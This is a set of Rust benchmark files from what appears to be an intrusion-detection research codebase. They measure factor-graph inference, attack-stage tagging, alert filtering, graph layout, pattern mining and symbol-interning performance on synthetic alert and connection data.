                b.iter(|| black_box(run_in(g, &par, &mut ws)))
            },
        );
        group.bench_with_input(
            BenchmarkId::new("stride_workspace_residual", len),
            &graph,
            |b, g| {
                let mut ws = BpWorkspace::new(g);
                let res = BpOptions {
                    schedule: BpSchedule::Residual,
                    ..opts.clone()
                };
                b.iter(|| black_box(run_in(g, &res, &mut ws)))
            },
        );
        group.bench_with_input(
            BenchmarkId::new("end_to_end_engine", len),
            &alerts,
            |b, a| {
                let mut engine = SessionEngine::new(tagger_model.clone(), cfg.clone());
                b.iter(|| black_box(engine.run(a)))
            },
        );
    }
    group.finish();
}

fn bench_online_step(c: &mut Criterion) {
    use alertlib::{Alert, Entity};
    use detect::{AttackTagger, TaggerConfig};
    use simnet::time::SimTime;
    let tagger_model = detect::toy_training_model();
    c.bench_function("attack_tagger_observe", |b| {
        let mut tagger = AttackTagger::new(tagger_model.clone(), TaggerConfig::default());
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            let a = Alert::new(
                SimTime::from_secs(i),
                alertlib::AlertKind::from_index((i % 40) as usize),
                Entity::User(format!("u{}", i % 64).into()),
            );
            black_box(tagger.observe(&a))
        })
    });
}

criterion_group!(
    benches,
    bench_chain,
    bench_bp_vs_chain,
    bench_session_engine,
    bench_online_step
);
criterion_main!(benches);
