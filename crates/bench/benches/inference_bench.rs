//! Factor-graph inference benchmarks: chain filtering/Viterbi throughput
//! versus sequence length, and generic BP on equivalent chain graphs.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use factorgraph::chain::ChainModel;
use factorgraph::sumproduct::{run, BpOptions};
use std::hint::black_box;

fn model() -> ChainModel {
    // Stage-count and alphabet comparable to the deployed detector.
    let s = detect::Stage::COUNT;
    let o = alertlib::AlertKind::COUNT;
    let mut learner = factorgraph::learn::ChainLearner::new(s, o, 0.1);
    // A few synthetic labeled sequences to make the tables non-uniform.
    for i in 0..10usize {
        let states: Vec<usize> = (0..s).collect();
        let obs: Vec<usize> = (0..s).map(|k| (k * 7 + i) % o).collect();
        learner.observe(&states, &obs);
    }
    learner.build()
}

fn bench_chain(c: &mut Criterion) {
    let m = model();
    let mut group = c.benchmark_group("chain_inference");
    for len in [4usize, 16, 64, 256] {
        let obs: Vec<usize> = (0..len).map(|i| (i * 13) % m.n_obs()).collect();
        group.bench_with_input(BenchmarkId::new("filter", len), &obs, |b, obs| {
            b.iter(|| black_box(m.filter(obs)))
        });
        group.bench_with_input(BenchmarkId::new("viterbi", len), &obs, |b, obs| {
            b.iter(|| black_box(m.viterbi(obs)))
        });
        group.bench_with_input(BenchmarkId::new("posteriors", len), &obs, |b, obs| {
            b.iter(|| black_box(m.posteriors(obs)))
        });
    }
    group.finish();
}

fn bench_bp_vs_chain(c: &mut Criterion) {
    let m = model();
    let obs: Vec<usize> = (0..24).map(|i| (i * 13) % m.n_obs()).collect();
    let mut group = c.benchmark_group("bp_vs_exact_chain");
    group.bench_function("exact_forward_backward", |b| b.iter(|| black_box(m.posteriors(&obs))));
    group.bench_function("generic_bp_on_chain_graph", |b| {
        b.iter(|| {
            let g = m.to_factor_graph(&obs);
            black_box(run(&g, &BpOptions::default()))
        })
    });
    group.finish();
}

fn bench_online_step(c: &mut Criterion) {
    use alertlib::{Alert, Entity};
    use detect::{AttackTagger, TaggerConfig};
    use simnet::time::SimTime;
    let tagger_model = detect::toy_training_model();
    c.bench_function("attack_tagger_observe", |b| {
        let mut tagger = AttackTagger::new(tagger_model.clone(), TaggerConfig::default());
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            let a = Alert::new(
                SimTime::from_secs(i),
                alertlib::AlertKind::from_index((i % 40) as usize),
                Entity::User(format!("u{}", i % 64)),
            );
            black_box(tagger.observe(&a))
        })
    });
}

criterion_group!(benches, bench_chain, bench_bp_vs_chain, bench_online_step);
criterion_main!(benches);
