//! Layout benchmarks + the Barnes–Hut θ ablation (DESIGN.md ablation (a)
//! and (d): quadtree vs naive O(n²), sequential vs parallel).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use simnet::rng::SimRng;
use std::hint::black_box;
use vizgraph::{layout, Body, Graph, LayoutConfig, NodeGroup, QuadTree};

fn star_graph(leaves: usize) -> Graph {
    let mut g = Graph::new();
    let hub = g.add_node("hub", NodeGroup::MassScanner);
    for i in 0..leaves {
        let l = g.add_node(format!("l{i}"), NodeGroup::Internal);
        g.add_edge(hub, l);
    }
    g
}

fn random_bodies(n: usize) -> Vec<Body> {
    let mut rng = SimRng::seed(1);
    (0..n)
        .map(|_| Body {
            x: rng.uniform(-100.0, 100.0),
            y: rng.uniform(-100.0, 100.0),
            mass: 1.0,
        })
        .collect()
}

fn bench_quadtree_theta(c: &mut Criterion) {
    let bodies = random_bodies(5_000);
    let tree = QuadTree::build(&bodies);
    let kernel = |d: f64, m: f64| m * 100.0 / d;
    let mut group = c.benchmark_group("repulsion_5k_bodies");
    for theta in [0.0, 0.5, 0.9, 1.2] {
        group.bench_with_input(
            BenchmarkId::new("barnes_hut", theta),
            &theta,
            |b, &theta| {
                b.iter(|| {
                    let mut acc = 0.0;
                    for body in bodies.iter().step_by(50) {
                        let (fx, fy) = tree.force_at(body.x, body.y, theta, -1, &kernel);
                        acc += fx + fy;
                    }
                    black_box(acc)
                })
            },
        );
    }
    group.bench_function("naive_exact", |b| {
        b.iter(|| {
            let mut acc = 0.0;
            for body in bodies.iter().step_by(50) {
                let (fx, fy) = QuadTree::force_exact(&bodies, body.x, body.y, -1, &kernel);
                acc += fx + fy;
            }
            black_box(acc)
        })
    });
    group.finish();
}

fn bench_layout_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("layout_star");
    group.sample_size(10);
    for n in [500usize, 2_000, 8_000] {
        let g = star_graph(n);
        group.bench_with_input(BenchmarkId::new("parallel", n), &g, |b, g| {
            b.iter(|| {
                let cfg = LayoutConfig {
                    max_iters: 10,
                    parallel: true,
                    ..Default::default()
                };
                black_box(layout(g, &cfg))
            })
        });
        group.bench_with_input(BenchmarkId::new("sequential", n), &g, |b, g| {
            b.iter(|| {
                let cfg = LayoutConfig {
                    max_iters: 10,
                    parallel: false,
                    ..Default::default()
                };
                black_box(layout(g, &cfg))
            })
        });
    }
    group.finish();
}

criterion_group!(benches, bench_quadtree_theta, bench_layout_scaling);
criterion_main!(benches);
