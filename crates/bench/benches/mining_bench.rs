//! Measurement-analytics benchmarks: LCS, Jaccard and pattern-mining
//! scaling over corpus size.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use mining::lcs::{lcs, lcs_length, mine_common_patterns, MinerConfig, SupportMode};
use mining::pairwise_similarities;
use scenario::{generate_corpus, LongitudinalConfig};
use std::hint::black_box;

fn bench_lcs(c: &mut Criterion) {
    let mut group = c.benchmark_group("lcs");
    for n in [16usize, 64, 256] {
        let a: Vec<u16> = (0..n).map(|i| (i * 7 % 50) as u16).collect();
        let b_seq: Vec<u16> = (0..n).map(|i| (i * 11 % 50) as u16).collect();
        group.bench_with_input(BenchmarkId::new("length_only", n), &n, |bch, _| {
            bch.iter(|| black_box(lcs_length(&a, &b_seq)))
        });
        group.bench_with_input(BenchmarkId::new("reconstruct", n), &n, |bch, _| {
            bch.iter(|| black_box(lcs(&a, &b_seq)))
        });
    }
    group.finish();
}

fn bench_corpus_analytics(c: &mut Criterion) {
    let mut group = c.benchmark_group("corpus_analytics");
    group.sample_size(10);
    for incidents in [60usize, 228] {
        let cfg = LongitudinalConfig {
            total_incidents: incidents,
            critical_occurrences: incidents / 2,
            ..Default::default()
        };
        let store = generate_corpus(&cfg);
        group.bench_with_input(
            BenchmarkId::new("pairwise_jaccard", incidents),
            &store,
            |b, s| b.iter(|| black_box(pairwise_similarities(s))),
        );
        group.bench_with_input(
            BenchmarkId::new("mine_patterns", incidents),
            &store,
            |b, s| {
                b.iter(|| {
                    let cfg = MinerConfig {
                        min_len: 4,
                        support: SupportMode::LcsPeers,
                        ..Default::default()
                    };
                    black_box(mine_common_patterns(s, &cfg))
                })
            },
        );
    }
    group.finish();
}

fn bench_corpus_generation(c: &mut Criterion) {
    let mut group = c.benchmark_group("corpus_generation");
    group.sample_size(10);
    group.bench_function("generate_228_incidents", |b| {
        b.iter(|| black_box(generate_corpus(&LongitudinalConfig::default())))
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_lcs,
    bench_corpus_analytics,
    bench_corpus_generation
);
criterion_main!(benches);
