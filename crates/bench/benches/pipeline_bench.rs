//! Alert-pipeline benchmarks: symbolization, filtering (the 25 M → 191 K
//! stage, ablation (c)), and the end-to-end record path under each stage
//! executor (inline / threaded / sharded; see `testbed::stage`).

use alertlib::{Alert, Entity, FilterConfig, ScanFilter, Symbolizer};
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
use simnet::time::{SimDuration, SimTime};
use std::hint::black_box;
use telemetry::record::{ConnRecord, LogRecord};

fn probe_record(i: u64) -> LogRecord {
    LogRecord::Conn(ConnRecord {
        ts: SimTime::from_secs(i),
        uid: FlowId(i),
        orig_h: format!("103.102.{}.{}", (i / 250) % 250, i % 250)
            .parse()
            .unwrap(),
        orig_p: 40_000,
        resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
        resp_p: 22,
        proto: Proto::Tcp,
        service: Service::Ssh,
        duration: SimDuration::ZERO,
        orig_bytes: 0,
        resp_bytes: 0,
        conn_state: ConnState::S0,
        direction: Direction::Inbound,
    })
}

fn scan_alert(i: u64) -> Alert {
    Alert::new(
        SimTime::from_secs(i),
        alertlib::AlertKind::PortScan,
        Entity::Address(
            format!("103.102.{}.{}", (i / 250) % 16, i % 250)
                .parse()
                .unwrap(),
        ),
    )
}

fn bench_symbolize(c: &mut Criterion) {
    let records: Vec<LogRecord> = (0..10_000).map(probe_record).collect();
    let mut group = c.benchmark_group("symbolize");
    group.throughput(Throughput::Elements(records.len() as u64));
    group.bench_function("conn_records_10k", |b| {
        b.iter(|| {
            let mut sym = Symbolizer::with_defaults();
            let mut out = Vec::with_capacity(4);
            let mut n = 0usize;
            for r in &records {
                out.clear();
                n += sym.symbolize_into(r, &mut out);
            }
            black_box(n)
        })
    });
    group.finish();
}

fn bench_filter(c: &mut Criterion) {
    let mut group = c.benchmark_group("scan_filter");
    for n in [10_000u64, 100_000] {
        let alerts: Vec<Alert> = (0..n).map(scan_alert).collect();
        group.throughput(Throughput::Elements(n));
        group.bench_with_input(
            BenchmarkId::new("windowed_dedup", n),
            &alerts,
            |b, alerts| {
                b.iter(|| {
                    let mut f = ScanFilter::new(FilterConfig::default());
                    let mut admitted = 0usize;
                    for a in alerts {
                        if f.admit(a) {
                            admitted += 1;
                        }
                    }
                    black_box(admitted)
                })
            },
        );
        // Ablation (c): no filter — every alert goes downstream.
        group.bench_with_input(BenchmarkId::new("no_filter", n), &alerts, |b, alerts| {
            b.iter(|| {
                let mut admitted = 0usize;
                for a in alerts {
                    admitted += a.kind.index(); // minimal downstream touch
                }
                black_box(admitted)
            })
        });
    }
    group.finish();
}

fn bench_streaming_vs_sequential(c: &mut Criterion) {
    let records: Vec<LogRecord> = (0..50_000).map(probe_record).collect();
    let mut group = c.benchmark_group("pipeline_50k_records");
    group.sample_size(10);
    group.throughput(Throughput::Elements(records.len() as u64));
    group.bench_function("sequential", |b| {
        b.iter(|| {
            let mut sym = Symbolizer::with_defaults();
            let mut filt = ScanFilter::new(FilterConfig::default());
            let mut tagger = detect::AttackTagger::new(
                detect::toy_training_model(),
                detect::TaggerConfig::default(),
            );
            let mut detections = 0u64;
            for r in &records {
                for a in sym.symbolize(r) {
                    if filt.admit(&a) && tagger.observe(&a).is_some() {
                        detections += 1;
                    }
                }
            }
            black_box(detections)
        })
    });
    group.bench_function("inline_executor", |b| {
        b.iter(|| {
            let report = testbed::PipelineBuilder::new()
                .alert_retention(0)
                .build()
                .run_inline(records.clone());
            black_box(report.stats)
        })
    });
    group.bench_function("threaded_executor", |b| {
        b.iter(|| {
            let report = testbed::PipelineBuilder::new()
                .alert_retention(0)
                .build()
                .run_threaded(records.clone());
            black_box(report.stats)
        })
    });
    group.bench_function("sharded_executor", |b| {
        b.iter(|| {
            let report = testbed::PipelineBuilder::new()
                .alert_retention(0)
                .build()
                .run_sharded(records.clone());
            black_box(report.stats)
        })
    });
    group.finish();
}

fn bench_bhr(c: &mut Criterion) {
    use bhr::NullRouteTable;
    let mut table = NullRouteTable::new();
    for i in 0..10_000u32 {
        table.block(
            std::net::Ipv4Addr::from(0x0A00_0000 + i),
            "bench",
            SimTime::from_secs(0),
            None,
        );
    }
    c.bench_function("bhr_lookup_10k_table", |b| {
        let mut i = 0u32;
        b.iter(|| {
            i = i.wrapping_add(7);
            black_box(table.is_blocked(
                std::net::Ipv4Addr::from(0x0A00_0000 + (i % 20_000)),
                SimTime::from_secs(1),
            ))
        })
    });
}

criterion_group!(
    benches,
    bench_symbolize,
    bench_filter,
    bench_streaming_vs_sequential,
    bench_bhr
);
criterion_main!(benches);
