//! E10 — §II-A annotation coverage: "A majority of alerts (99.7%) have
//! been automatically annotated with corresponding attack states. ... Only
//! a small fraction (0.3%) of alerts cannot be annotated automatically."

use alertlib::annotate::Annotator;
use bench::{banner, compare, write_artifact};

fn main() {
    banner("Annotation coverage (E10)");
    let store = bench::standard_corpus();
    let annotator = Annotator::default();

    let mut total = 0u64;
    let mut auto_annotated = 0u64;
    let mut expert = 0u64;
    let mut malicious = 0u64;
    for inc in store.iter() {
        let (_, report) = annotator.annotate_batch(&inc.alerts, &inc.report);
        total += report.total;
        auto_annotated += report.auto_annotated;
        expert += report.expert_annotated;
        malicious += report.malicious;
    }
    // Background alerts (scan noise + benign ops) are all auto-annotated
    // by construction; fold a day of background into the measurement so
    // the fraction reflects the full stream, not just incident alerts.
    let mut rng = simnet::rng::SimRng::seed(0xA22);
    let gt = alertlib::annotate::GroundTruth::default();
    scenario::background::stream_day(
        &scenario::background::VolumeModel::default(),
        &mut rng,
        simnet::time::SimTime::from_date(2024, 10, 1),
        &mut |a| {
            let ann = annotator.annotate(&a, &gt);
            total += 1;
            match ann.method {
                alertlib::annotate::Method::Auto => auto_annotated += 1,
                alertlib::annotate::Method::Expert => expert += 1,
            }
        },
    );

    let auto_fraction = auto_annotated as f64 / total as f64;
    println!("alerts annotated      : {total}");
    println!("auto-annotated        : {auto_annotated}");
    println!("expert-annotated      : {expert}");
    println!("malicious (incidents) : {malicious}");
    println!();
    compare("auto-annotation fraction", auto_fraction, 0.997);
    assert!(
        auto_fraction > 0.98,
        "the overwhelming majority must be automatic"
    );

    write_artifact(
        "annotation",
        &serde_json::json!({
            "total": total,
            "auto": auto_annotated,
            "expert": expert,
            "auto_fraction": auto_fraction,
            "paper": {"auto_fraction": 0.997},
        }),
    );
}
