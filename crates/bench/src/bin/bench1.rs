//! BENCH_1 — the repo's first measured perf milestone: factor-graph
//! inference throughput, seed vs. stride/workspace engine.
//!
//! Emits `BENCH_1.json` (at the workspace root, or `$BENCH_OUT`) with:
//! - chain filter / Viterbi / smoothing throughput at several lengths;
//! - generic BP on a 24-step chain vs. the exact forward–backward
//!   baseline (acceptance: within 5×);
//! - the skip-chain session workload: seed flooding implementation vs.
//!   the optimized engine, serial / parallel / residual schedules
//!   (acceptance: ≥ 3× on the serial schedule);
//! - online `AttackTagger::observe` throughput.
//!
//! Run with: `cargo run --release -p bench --bin bench1`

use std::hint::black_box;
use std::time::Instant;

use detect::fg_session::{build_session_graph, SessionGraphConfig};
use factorgraph::chain::{ChainGraphBuffer, ChainModel};
use factorgraph::graph::FactorGraph;
use factorgraph::sumproduct::{reference, run_in, BpOptions, BpSchedule, BpWorkspace};

/// Mean ns/iteration of `f`, sized to fill ~`window_ms` of wall clock.
fn time_ns(window_ms: u64, mut f: impl FnMut()) -> f64 {
    let warm = Instant::now();
    let mut warm_iters = 0u64;
    while warm.elapsed().as_millis() < (window_ms / 10).max(1) as u128 {
        f();
        warm_iters += 1;
    }
    let per = warm.elapsed().as_secs_f64() / warm_iters as f64;
    let iters = ((window_ms as f64 / 1e3) / per).ceil().max(1.0) as u64;
    let start = Instant::now();
    for _ in 0..iters {
        f();
    }
    start.elapsed().as_secs_f64() * 1e9 / iters as f64
}

fn detector_scale_model() -> ChainModel {
    let s = detect::Stage::COUNT;
    let o = alertlib::AlertKind::COUNT;
    let mut learner = factorgraph::learn::ChainLearner::new(s, o, 0.1);
    for i in 0..10usize {
        let states: Vec<usize> = (0..s).collect();
        let obs: Vec<usize> = (0..s).map(|k| (k * 7 + i) % o).collect();
        learner.observe(&states, &obs);
    }
    learner.build()
}

fn session_alerts(len: usize) -> Vec<alertlib::Alert> {
    use alertlib::{Alert, AlertKind, Entity};
    use simnet::time::SimTime;
    let indicative = [
        AlertKind::DownloadSensitive,
        AlertKind::CompileKernelModule,
        AlertKind::SshKeyEnumeration,
    ];
    (0..len)
        .map(|t| {
            let kind = if t % 5 == 2 {
                indicative[(t / 5) % indicative.len()]
            } else {
                AlertKind::from_index((t * 13) % alertlib::AlertKind::COUNT)
            };
            Alert::new(SimTime::from_secs(t as u64), kind, Entity::User("u".into()))
        })
        .collect()
}

fn session_opts(cfg: &SessionGraphConfig, schedule: BpSchedule) -> BpOptions {
    BpOptions {
        max_iters: cfg.max_iters,
        damping: cfg.damping,
        tolerance: 1e-8,
        schedule,
    }
}

fn main() {
    let window_ms: u64 = std::env::var("BENCH_MS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(300);
    let model = detector_scale_model();

    bench::banner("BENCH_1: chain inference throughput");
    let mut chain_rows = Vec::new();
    for len in [16usize, 64, 256] {
        let obs: Vec<usize> = (0..len).map(|i| (i * 13) % model.n_obs()).collect();
        let filter = time_ns(window_ms, || {
            black_box(model.filter(black_box(&obs)));
        });
        let viterbi = time_ns(window_ms, || {
            black_box(model.viterbi(black_box(&obs)));
        });
        let posteriors = time_ns(window_ms, || {
            black_box(model.posteriors(black_box(&obs)));
        });
        let throughput = |ns: f64| len as f64 * 1e9 / ns;
        println!(
            "len {len:>4}: filter {filter:>12.0} ns ({:>12.0} alerts/s)  viterbi {viterbi:>12.0} ns  posteriors {posteriors:>12.0} ns",
            throughput(filter)
        );
        chain_rows.push(serde_json::json!({
            "len": len,
            "filter_ns": filter,
            "viterbi_ns": viterbi,
            "posteriors_ns": posteriors,
            "filter_alerts_per_sec": throughput(filter),
        }));
    }

    bench::banner("BENCH_1: generic BP vs exact chain (24 steps)");
    let obs: Vec<usize> = (0..24).map(|i| (i * 13) % model.n_obs()).collect();
    let fb_ns = time_ns(window_ms, || {
        black_box(model.posteriors(black_box(&obs)));
    });
    let seed_ns = time_ns(window_ms, || {
        let g = model.to_factor_graph(&obs);
        black_box(reference::run(&g, &BpOptions::default()));
    });
    let mut buf = ChainGraphBuffer::new();
    let mut ws = BpWorkspace::default();
    let opt_ns = time_ns(window_ms, || {
        model.fill_factor_graph(&obs, &mut buf);
        black_box(run_in(buf.graph(), &BpOptions::default(), &mut ws));
    });
    let bp_vs_exact = opt_ns / fb_ns;
    println!("forward_backward {fb_ns:>12.0} ns");
    println!(
        "seed generic BP  {seed_ns:>12.0} ns  ({:.1}x exact)",
        seed_ns / fb_ns
    );
    println!("optimized BP     {opt_ns:>12.0} ns  ({bp_vs_exact:.1}x exact)");

    bench::banner("BENCH_1: skip-chain session workload, seed vs stride/workspace");
    let tagger_model = detect::toy_training_model();
    let cfg = SessionGraphConfig::default();
    let mut session_rows = Vec::new();
    let mut serial_speedup_128 = 0.0;
    for len in [32usize, 128] {
        let alerts = session_alerts(len);
        let (graph, skips) = build_session_graph(&tagger_model, &alerts, &cfg);
        assert!(skips > 0, "workload must be loopy");
        let bench_schedule = |g: &FactorGraph, schedule: BpSchedule| {
            let mut ws = BpWorkspace::new(g);
            let opts = session_opts(&cfg, schedule);
            time_ns(window_ms, || {
                black_box(run_in(g, &opts, &mut ws));
            })
        };
        let seed = {
            let opts = session_opts(&cfg, BpSchedule::Flood);
            time_ns(window_ms, || {
                black_box(reference::run(&graph, &opts));
            })
        };
        let serial = bench_schedule(&graph, BpSchedule::Flood);
        let parallel = bench_schedule(&graph, BpSchedule::ParallelFlood);
        let residual = bench_schedule(&graph, BpSchedule::Residual);
        let speedup = seed / serial;
        if len == 128 {
            serial_speedup_128 = speedup;
        }
        println!(
            "len {len:>4} ({skips} skips): seed {seed:>12.0} ns  serial {serial:>12.0} ns ({speedup:.1}x)  parallel {parallel:>12.0} ns ({:.1}x)  residual {residual:>12.0} ns ({:.1}x)",
            seed / parallel,
            seed / residual
        );
        session_rows.push(serde_json::json!({
            "len": len,
            "skip_factors": skips,
            "seed_flooding_ns": seed,
            "stride_serial_ns": serial,
            "stride_parallel_ns": parallel,
            "stride_residual_ns": residual,
            "serial_speedup": speedup,
            "parallel_speedup": seed / parallel,
            "residual_speedup": seed / residual,
        }));
    }

    bench::banner("BENCH_1: online tagger throughput");
    use alertlib::{Alert, Entity};
    use detect::{AttackTagger, TaggerConfig};
    use simnet::time::SimTime;
    let mut tagger = AttackTagger::new(tagger_model.clone(), TaggerConfig::default());
    let mut i = 0u64;
    let observe_ns = time_ns(window_ms, || {
        i += 1;
        let a = Alert::new(
            SimTime::from_secs(i),
            alertlib::AlertKind::from_index((i % 40) as usize),
            Entity::User(format!("u{}", i % 64).into()),
        );
        black_box(tagger.observe(&a));
    });
    println!(
        "attack_tagger_observe {observe_ns:>10.0} ns  ({:.0} alerts/s)",
        1e9 / observe_ns
    );

    let artifact = serde_json::json!({
        "bench": "BENCH_1",
        "chain": chain_rows,
        "bp_vs_exact_chain_24": {
            "forward_backward_ns": fb_ns,
            "seed_bp_ns": seed_ns,
            "optimized_bp_ns": opt_ns,
            "optimized_over_exact": bp_vs_exact,
            "acceptance_max_ratio": 5.0,
            "acceptance_met": bp_vs_exact <= 5.0,
        },
        "skip_chain_session": session_rows,
        "acceptance": {
            "serial_speedup_at_128": serial_speedup_128,
            "required_speedup": 3.0,
            "met": serial_speedup_128 >= 3.0,
        },
        "attack_tagger_observe_ns": observe_ns,
    });
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "BENCH_1.json".to_string());
    std::fs::write(
        &out,
        serde_json::to_string_pretty(&artifact).expect("serialize"),
    )
    .expect("write BENCH_1.json");
    println!("\n[artifact] {out}");
    // Threshold enforcement is opt-out (`BENCH_ENFORCE=0`): shared CI
    // runners have enough timing variance to fail the gates spuriously,
    // so CI records the artifact and only local/dedicated runs enforce.
    let enforce = std::env::var("BENCH_ENFORCE").map_or(true, |v| v != "0");
    if enforce {
        assert!(
            bp_vs_exact <= 5.0,
            "generic BP must stay within 5x of exact forward-backward (got {bp_vs_exact:.1}x)"
        );
        assert!(
            serial_speedup_128 >= 3.0,
            "stride/workspace engine must beat the seed flooding implementation 3x (got {serial_speedup_128:.1}x)"
        );
    } else if bp_vs_exact > 5.0 || serial_speedup_128 < 3.0 {
        println!(
            "WARNING: acceptance thresholds missed (bp_vs_exact={bp_vs_exact:.1}x, serial_speedup={serial_speedup_128:.1}x) — not enforced (BENCH_ENFORCE=0)"
        );
    }
}
