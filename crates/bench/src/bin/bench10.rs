//! BENCH_10 — unified lock-free interning core: hit latency, thread
//! scaling, and global-vs-tenant detection byte-identity.
//!
//! PR 10 collapsed the process-global intern table and the per-tenant
//! `TenantSymbols` universes onto one append-only, atomically-published
//! open-addressing `SymTable`. This bench witnesses the three claims the
//! refactor stands on:
//!
//! 1. **Hit latency**: interning an already-present string and resolving
//!    a `Sym` take zero lock acquisitions — the hit path is two atomic
//!    loads and a probe over an immutable published map. Measured as
//!    single-thread ns/op over a hot key set.
//! 2. **Thread scaling**: 8 threads hammering one shared table scale with
//!    cores instead of serializing on a lock. The wall-clock gate is
//!    core-aware like BENCH_2/3's (`applicable: false` below 4 cores —
//!    a 1-core container records the numbers informationally).
//! 3. **Detection byte-identity**: the seed-2809840877 campaign (the
//!    BENCH_3 workload) produces byte-identical detections through the
//!    global-scope inline pipeline and the tenant-scoped service path —
//!    the two previously-separate interning code paths, now one core.
//!
//! Emits `BENCH_10.json` (at the workspace root, or `$BENCH_OUT`).
//! Run with: `cargo run --release -p bench --bin bench10`
//! Scale the pipeline workload with `BENCH_SCALE` (default 1.0; CI 0.2).

use std::hint::black_box;
use std::time::Instant;

use bench::detection_bytes;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::RecordStreamConfig;
use simnet::intern::SymScope;
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use testbed::stage::PipelineBuilder;
use testbed::{ServiceConfig, ServiceHandle, TestbedConfig};

/// Hot key set size — larger than any cache-resident toy set, small
/// enough that every probe hits the id map's fast path.
const KEYS: usize = 4_096;
/// Hit-path iterations per measured pass (per thread).
const HIT_ROUNDS: usize = 200;
/// Threads in the shared-table scaling pass.
const THREADS: usize = 8;

fn key_set() -> Vec<String> {
    (0..KEYS)
        .map(|i| format!("/usr/bin/tool-{i} --config=/etc/tool/{i}.conf --verbose"))
        .collect()
}

/// ns/op interning strings already present in `scope` (the hit path).
fn bench_intern_hits(scope: &SymScope, keys: &[String]) -> f64 {
    let t0 = Instant::now();
    for _ in 0..HIT_ROUNDS {
        for k in keys {
            black_box(scope.sym(black_box(k)));
        }
    }
    t0.elapsed().as_nanos() as f64 / (HIT_ROUNDS * keys.len()) as f64
}

/// ns/op resolving already-minted syms (the other half of the hit path).
fn bench_resolves(scope: &SymScope, keys: &[String]) -> f64 {
    let syms: Vec<_> = keys.iter().map(|k| scope.sym(k)).collect();
    let t0 = Instant::now();
    for _ in 0..HIT_ROUNDS {
        for &s in &syms {
            black_box(scope.resolve(black_box(s)).len());
        }
    }
    t0.elapsed().as_nanos() as f64 / (HIT_ROUNDS * syms.len()) as f64
}

/// ns/op on the append path: interning strings not yet in the table.
fn bench_appends(scope: &SymScope) -> f64 {
    let fresh: Vec<String> = (0..KEYS).map(|i| format!("fresh-miss-{i}")).collect();
    let t0 = Instant::now();
    for k in &fresh {
        black_box(scope.sym(black_box(k)));
    }
    t0.elapsed().as_nanos() as f64 / fresh.len() as f64
}

/// Aggregate hit-path throughput (ops/s) with `threads` workers sharing
/// one table.
fn bench_shared(scope: &SymScope, keys: &[String], threads: usize) -> f64 {
    let total_ops = threads * HIT_ROUNDS * keys.len();
    let t0 = Instant::now();
    std::thread::scope(|s| {
        for _ in 0..threads {
            let scope = scope.clone();
            s.spawn(move || {
                for _ in 0..HIT_ROUNDS {
                    for k in keys {
                        black_box(scope.sym(black_box(k)));
                    }
                }
            });
        }
    });
    total_ops as f64 / t0.elapsed().as_secs_f64()
}

fn main() {
    let scale: f64 = std::env::var("BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    bench::banner("BENCH_10: unified interning core — latency, scaling, byte-identity");
    let cores = rayon::current_num_threads();

    // --- Hit-path latency (fresh scope: same implementation type the
    // global table uses, without a shared-table warm-state confound).
    let scope = SymScope::fresh();
    let keys = key_set();
    for k in &keys {
        scope.sym(k); // warm: every measured intern below is a hit
    }
    let hit_ns = bench_intern_hits(&scope, &keys);
    let resolve_ns = bench_resolves(&scope, &keys);
    let append_ns = bench_appends(&SymScope::fresh());
    println!("  intern hit  : {hit_ns:8.1} ns/op  ({KEYS} hot keys)");
    println!("  resolve     : {resolve_ns:8.1} ns/op");
    println!("  append miss : {append_ns:8.1} ns/op  (informational)");

    // --- Thread scaling on one shared table.
    let single_ops = bench_shared(&scope, &keys, 1);
    let multi_ops = bench_shared(&scope, &keys, THREADS);
    let scaling = multi_ops / single_ops;
    println!(
        "  shared table: {:.1} Mops/s x1, {:.1} Mops/s x{THREADS}  ({scaling:.2}x)",
        single_ops / 1e6,
        multi_ops / 1e6
    );

    // --- Full-pipeline byte-identity: global inline vs tenant-scoped
    // service on the seed-2809840877 campaign.
    let tb_cfg = TestbedConfig::default();
    let sessions = ((240.0 * scale) as usize).max(16);
    let campaign_cfg = CampaignConfig {
        sessions,
        horizon: SimDuration::from_days(3),
        mutation: MutationConfig {
            dilation: 2.0,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: (400_000.0 * scale) as usize,
            benign_flows: (150_000.0 * scale) as usize,
            exec_records: (450_000.0 * scale) as usize,
            users: 4_000,
            horizon: SimDuration::from_days(3),
            indicative_exec_fraction: 0.02,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    let campaign = generate_campaign(&campaign_cfg, &mut SimRng::seed(tb_cfg.seed));
    let n = campaign.records.len();
    println!(
        "  workload    : {n} records, {sessions} sessions, seed {}",
        tb_cfg.seed
    );

    let t0 = Instant::now();
    let inline = PipelineBuilder::from_config(&tb_cfg, bench::standard_model())
        .build()
        .run_inline(campaign.records.clone());
    let inline_s = t0.elapsed().as_secs_f64();

    let tenant = simnet::intern::TenantId(10);
    let svc_cfg = tb_cfg.clone();
    let svc = ServiceHandle::spawn(ServiceConfig::default(), move |_, scope| {
        PipelineBuilder::from_config(&svc_cfg, bench::standard_model())
            .scope(scope)
            .build()
    });
    let t0 = Instant::now();
    for chunk in campaign.records.chunks(4_096) {
        svc.ingest(tenant, chunk.to_vec()).expect("worker alive");
    }
    let service = svc.shutdown().pop().expect("one live tenant reports").1;
    let service_s = t0.elapsed().as_secs_f64();

    let byte_identical =
        detection_bytes(&inline) == detection_bytes(&service) && inline.stats == service.stats;
    assert!(
        byte_identical,
        "global and tenant-scoped paths diverged ({} vs {} detections)",
        inline.stats.detections, service.stats.detections
    );
    println!(
        "  identity    : {} detections global-inline and tenant-service, byte-identical \
         (inline {inline_s:.3}s, service {service_s:.3}s)",
        inline.stats.detections
    );

    let artifact = serde_json::json!({
